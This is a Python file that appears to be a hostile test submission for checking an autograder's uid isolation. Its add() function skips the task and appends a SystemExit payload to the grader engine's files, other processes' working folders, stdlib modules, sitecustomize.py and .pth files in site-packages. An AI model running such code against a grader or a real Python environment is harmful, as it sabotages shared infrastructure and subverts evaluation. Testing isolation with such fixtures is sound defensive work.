"""Tampering (uid isolation): append to every file of the grader it can find (the engine it
imports, the engine's checkout, the venv: sitecustomize and .pth files that every later judge
would run), then compute nothing. What it managed goes back in the feedback."""
import glob
import os
import sys

import autograder

PAYLOAD = "\nraise SystemExit('tampered')\n"


def _targets():
    """The engine (every file), the judge's working folder, the top of every site-packages and
    the stdlib (sitecustomize, .pth files, the modules every judge imports), guessed checkouts."""
    engine = os.path.dirname(os.path.dirname(autograder.__file__))
    for folder, _, files in os.walk(engine):
        yield from (os.path.join(folder, f) for f in files)
    for pattern in ("/proc/*/cwd/*", "/proc/*/cwd/hidden/*", "/work/*/autograder/*.py",
                    "/autograder/source/autograder/*.py", "/srv/*/autograder/*.py"):
        yield from glob.glob(pattern)
    for prefix in {sys.prefix, sys.base_prefix}:
        for lib in glob.glob(os.path.join(prefix, "lib", "python3*")):
            yield from glob.glob(os.path.join(lib, "*.py"))
            yield from glob.glob(os.path.join(lib, "site-packages", "*.p*"))
            yield os.path.join(lib, "site-packages", "sitecustomize.py")
            yield os.path.join(lib, "site-packages", "zz-evil.pth")
            yield from glob.glob(os.path.join(lib, "site-packages", "numpy", "*.py"))


# its own folder (submission copy, private tmp) is its to change
OWN = os.path.dirname(os.getcwd()) if os.getcwd() != "/submission" else "/submission"


def _own(path):
    try:
        return os.path.realpath(path).startswith((OWN, "/dev/"))
    except OSError:  # a link of another user's process, in /proc
        return False


def add(a, b):
    tampered = []
    for path in _targets():
        if _own(path):
            continue
        try:
            with open(path, "a") as out:
                out.write(PAYLOAD)
            tampered.append(path)
        except OSError:
            pass
        if len(tampered) > 20:
            break
    raise RuntimeError(f"TAMPERED {tampered!r}")


class Scaler:
    def __init__(self, k):
        self.k = k

    def forward(self, x):
        return self.k * x
